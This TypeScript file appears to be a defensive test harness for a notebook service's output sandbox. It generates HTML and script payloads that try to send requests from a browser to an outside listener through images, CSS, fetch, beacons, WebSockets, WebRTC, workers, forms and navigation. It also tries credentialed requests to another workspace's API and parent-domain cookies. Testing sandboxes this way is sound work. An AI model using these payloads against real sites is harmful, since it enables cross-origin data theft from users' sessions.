// What a hostile notebook tries in a browser, by name. Markup is what an output may hold; scripts are what
// would run if a script in an output ever did. Every attempt goes to BASE/<name> at a listener outside.

export interface Aim {
  readonly base: string
  readonly connections: string
  /** host:port of the listener for STUN */
  readonly stun: string
  /** origin of another workspace's notebook, whose cookie this browser holds */
  readonly other: string
  /** the parent domain of console and notebooks */
  readonly domain: string
}

/** Attempts that need no script of the notebook's own: all of them in one HTML output. */
export function markup({ base, connections }: Aim, dns: string): string {
  const at = (name: string): string => `${base}/${name}`
  return [
    `<img src="${at("img")}"><img srcset="${at("img-srcset")} 1x"><picture><source srcset="${at("picture")}"><img></picture>`,
    `<input type="image" src="${at("input-image")}"><table background="${at("table-background")}"><tr><td>x</td></tr></table>`,
    `<link rel="stylesheet" href="${at("stylesheet.css")}"><style>@import url("${at("css-import.css")}");`,
    `@font-face{font-family:ghf;src:url("${at("css-font")}")} #gh{background:url("${at("css-image")}");font-family:ghf}`,
    `#gh{cursor:url("${at("css-cursor")}"),auto;list-style:url("${at("css-list")}")}</style><ul id="gh"><li>text</li></ul>`,
    `<div style="background-image:url('${at("style-attribute")}')">x</div>`,
    `<video src="${at("video")}" poster="${at("poster")}" preload="auto"></video><audio src="${at("audio")}" preload="auto"></audio>`,
    `<iframe src="${at("iframe.html")}"></iframe><iframe srcdoc="&lt;img src='${at("srcdoc")}'&gt;"></iframe>`,
    `<object data="${at("object.html")}"></object><embed src="${at("embed.html")}">`,
    `<svg><image href="${at("svg-image")}"/></svg>`,
    `<link rel="prefetch" href="${at("prefetch")}"><link rel="preload" as="image" href="${at("preload")}">`,
    `<link rel="modulepreload" href="${at("modulepreload.js")}"><link rel="dns-prefetch" href="//${dns}">`,
    `<link rel="preconnect" href="${connections}">`,
    `<a id="gh-ping" href="#gh" ping="${at("ping")}">ping</a> <a id="gh-blank" href="${at("blank-link")}" target="_blank">link</a>`,
    `<script src="${at("script.js")}"></script><script type="module" src="${at("module.js")}"></script>`,
    `<img src="data:," onerror="new Image().src='${at("event-handler")}'">`,
    `<script>new Image().src="${at("inline-script")}"</script>`,
  ].join("\n")
}

export const MARKUP_NAMES: readonly string[] = [
  ...[
    "img",
    "img-srcset",
    "picture",
    "input-image",
    "table-background",
    "stylesheet",
    "css-import",
    "css-font",
  ],
  ...[
    "css-image",
    "css-cursor",
    "css-list",
    "style-attribute",
    "video",
    "poster",
    "audio",
    "iframe",
    "srcdoc",
  ],
  ...["object", "embed", "svg-image", "prefetch", "preload", "modulepreload", "dns-prefetch"],
  ...[
    "ping",
    "blank-link",
    "script",
    "module",
    "event-handler",
    "inline-script",
    "markdown-image",
    "image-url",
  ],
]

/** Shown by other outputs than HTML. */
export const OUTPUT_ONLY: readonly string[] = ["markdown-image", "image-url"]

/**
 * What would still work if a script of a notebook ran, which none does: browsers offer no way to refuse it.
 * The console takes no cookie but its own `__Host-` ones and listens to no message. Copying by a command and
 * printing need the person's own hand, as Ctrl+C and Ctrl+P do. A message shows whose it is, and Lab asks
 * before unsaved work is left.
 */
export const NEEDS_SCRIPT: readonly string[] = [
  ...["parent-cookie", "post-message", "copy-command", "print", "alert", "before-unload"],
]

/** What the browser itself refuses any frame of another origin: tried with our controls off too. */
export const REFUSED_ANYWHERE: readonly string[] = ["document-domain"]

/** Attempts that need script but leave the page where it is: name → source of a function. */
export function scripts({ base, stun, other, domain }: Aim): Record<string, string> {
  return {
    // First, because it needs the focus that popups take.
    "clipboard-write": `() => navigator.clipboard.writeText("gh").then(() => top.postMessage({ gh: "clipboard-write" }, "*"))`,
    "copy-command": `() => { const t = document.createElement("textarea"); t.value = "gh"; document.body.append(t); t.select(); if (document.execCommand("copy")) top.postMessage({ gh: "copy-command" }, "*") }`,
    print: `() => { addEventListener("beforeprint", () => top.postMessage({ gh: "print" }, "*")); print() }`,
    alert: `() => alert("gh")`,
    "document-domain": `() => { document.domain = "${domain}"; top.document.title; top.postMessage({ gh: "document-domain" }, "*") }`,
    fetch: `() => fetch("${base}/fetch")`,
    "fetch-post": `() => fetch("${base}/fetch-post", { method: "POST", mode: "no-cors", body: "x" })`,
    "fetch-keepalive": `() => fetch("${base}/fetch-keepalive", { keepalive: true, mode: "no-cors" })`,
    xhr: `() => { const x = new XMLHttpRequest(); x.open("GET", "${base}/xhr"); x.send() }`,
    beacon: `() => navigator.sendBeacon("${base}/beacon", "x")`,
    image: `() => { new Image().src = "${base}/image" }`,
    websocket: `() => { new WebSocket("${base}/websocket".replace("http", "ws")) }`,
    "event-source": `() => { new EventSource("${base}/event-source") }`,
    "dynamic-import": `() => import("${base}/dynamic-import.js")`,
    "script-element": `() => { const s = document.createElement("script"); s.src = "${base}/script-element.js"; document.body.append(s) }`,
    "worker-fetch": `() => { new Worker(URL.createObjectURL(new Blob(["fetch('${base}/worker-fetch')"]))) }`,
    "worker-import": `() => { new Worker(URL.createObjectURL(new Blob(["importScripts('${base}/worker-import.js')"]))) }`,
    "blank-frame": `() => { const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.fetch("${base}/blank-frame") }`,
    "frame-element": `() => { const f = document.createElement("iframe"); f.src = "${base}/frame-element.html"; document.body.append(f) }`,
    "form-frame": `() => { const f = document.createElement("iframe"); f.name = "ghf"; document.body.append(f); const o = document.createElement("form"); o.action = "${base}/form-frame.html"; o.target = "ghf"; document.body.append(o); o.submit() }`,
    "form-popup": `() => { const o = document.createElement("form"); o.action = "${base}/form-popup.html"; o.target = "_blank"; document.body.append(o); o.submit() }`,
    popup: `() => { window.open("${base}/popup.html") }`,
    webrtc: `async () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:${stun}" }] }); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer()) }`,
    download: `() => { const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob(["x"])); a.download = "gh-download"; document.body.append(a); a.click() }`,
    "post-message": `() => { top.postMessage({ gh: "post-message" }, "*") }`,
    "parent-cookie": `() => { document.cookie = "gh_parent=1; Domain=${domain}; Path=/" }`,
    "service-worker": `() => navigator.serviceWorker.register("/gh-worker.js").then(() => top.postMessage({ gh: "service-worker" }, "*"))`,
    "other-fetch": `() => fetch("${other}/api/kernels", { credentials: "include", mode: "no-cors" })`,
    "other-image": `() => { new Image().src = "${other}/api/me" }`,
    "other-frame": `() => { const f = document.createElement("iframe"); f.src = "${other}/lab"; document.body.append(f) }`,
  }
}

/** A program that tries each and waits for none longer than a moment. */
export function tryAll(aim: Aim): string {
  const all = Object.values(scripts(aim)).join(",\n")
  return `(async () => {
    for (const attempt of [${all}])
      try { await Promise.race([attempt(), new Promise((done) => setTimeout(done, 300))]) } catch {}
  })()`
}

/** Which attempt an answer of the other workspace belongs to, by its path. */
export const OTHER_PATHS: Readonly<Record<string, string>> = {
  "/api/kernels": "other-fetch",
  "/api/me": "other-image",
  "/lab": "other-frame",
  "/lab/tree/x": "other-navigation",
}

/** Attempts that take the page away, one at a time. */
export function departures(base: string, other: string): Record<string, string> {
  return {
    "self-navigation": `location.href = "${base}/self-navigation.html"`,
    "self-form": `{ const o = document.createElement("form"); o.action = "${base}/self-form.html"; document.body.append(o); o.submit() }`,
    "meta-refresh": `{ const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=${base}/meta-refresh.html"; document.head.append(m) }`,
    "before-unload": `addEventListener("beforeunload", (left) => left.preventDefault()); location.reload()`,
    "top-navigation": `top.location.href = "${base}/top-navigation.html"`,
    "other-navigation": `location.href = "${other}/lab/tree/x"`,
  }
}
